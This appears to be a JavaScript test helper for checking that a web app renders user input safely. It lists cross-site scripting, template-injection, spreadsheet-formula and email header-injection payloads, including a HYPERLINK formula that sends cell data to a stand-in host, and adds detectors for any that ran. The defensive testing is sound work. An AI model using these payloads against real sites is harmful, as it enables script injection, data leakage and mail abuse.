// What an attacker would write into a field, and how a page is looked at for any of it having become more than text.
import assert from "node:assert/strict";

/** Each would set `ran`, or put a victim or a formula where none belongs. */
export const PAYLOADS = [
  `"'><img src=x onerror=ran=1><script>ran=1</script>`,
  "<script>ran=1</script>",
  `"><svg/onload=ran=1>`,
  `' onmouseover='ran=1' autofocus onfocus='ran=1`,
  "javascript:ran=1//https://x.example",
  `[press](javascript:ran=1) <javascript:ran=1> [x](https://x.example "onclick=ran=1")`,
  "![x](data:text/html,<script>ran=1</script>)",
  `<a href="jav&#x09;ascript:ran=1">x</a>`,
  `</textarea></title></style><iframe srcdoc="<script>parent.ran=1</script>">`,
  "{{1337*1337}}${ran=1}{% ran %}<%= 1337*1337 %>",
  "\u202egnp.exe\u2066\u0007\u200fran",
  `=HYPERLINK("http://x.example?"&A1,"ran")`,
  "x\r\nBcc: victim@x.example\r\n\r\n<b>ran</b>",
];

/** What 1337 * 1337 is: on no page unless a payload was worked out. */
const WORKED_OUT = "1787569";

/** Looks at a document (or the text of one, which runs nothing) for elements and attributes that are none of ours. */
function look(source) {
  const parsed = typeof source === "string" ? new DOMParser().parseFromString(source, "text/html") : document;
  const found = [];
  const within = (root) => {
    for (const one of root.querySelectorAll("*")) {
      const src = one.getAttribute("src");
      const told = one.outerHTML.slice(0, 200);
      if (one.localName === "script" && !src && one.type !== "application/json") found.push(told);
      if (one.localName === "script" && src && !/^(\/|https?:\/\/(localhost|127\.0\.0\.1):)/.test(src)) found.push(told);
      if (["object", "embed", "base", "frame"].includes(one.localName) || one.hasAttribute("srcdoc")) found.push(told);
      if (one.localName === "img" && src === "x") found.push(told);
      for (const { name, value } of one.attributes) {
        if (/^on/i.test(name) || /^hx-on/i.test(name)) found.push(told);
        // eslint-disable-next-line no-control-regex
        const plain = value.replace(/[\u0000-\u0020]/g, "");
        if (["href", "src", "action", "formaction", "xlink:href", "data", "poster"].includes(name) && /^(javascript|vbscript|data:(?!image\/(png|jpeg|gif|webp|svg\+xml;base64)))/i.test(plain)) found.push(told);
        if (/^hx-(vals|headers|vars)$/.test(name) && /^(js|javascript):/i.test(plain)) found.push(told);
      }
      if (one.shadowRoot) within(one.shadowRoot);
    }
  };
  within(parsed);
  if (parsed.documentElement.textContent.includes("1787569")) found.push("something was worked out");
  return { found, ran: typeof ran !== "undefined" };
}

/** Nothing on the page, or in the text of one, is more than text. */
export async function isHarmless(page, what, source) {
  const { found, ran } = await page.evaluate(look, source);
  assert.deepEqual(found, [], what);
  assert.equal(ran, false, `${what}: it ran`);
}

/** The cells of a table (RFC 4180). */
export function cells(csv) {
  return [...csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)].map((match) => (match[1] ?? match[2]).replaceAll('""', '"'));
}

/** No cell of the table is one that a spreadsheet runs. */
export function runsNothing(csv, what) {
  assert.ok(!csv.includes(WORKED_OUT), what);
  for (const cell of cells(csv)) assert.doesNotMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/, `${what}: ${cell}`);
}
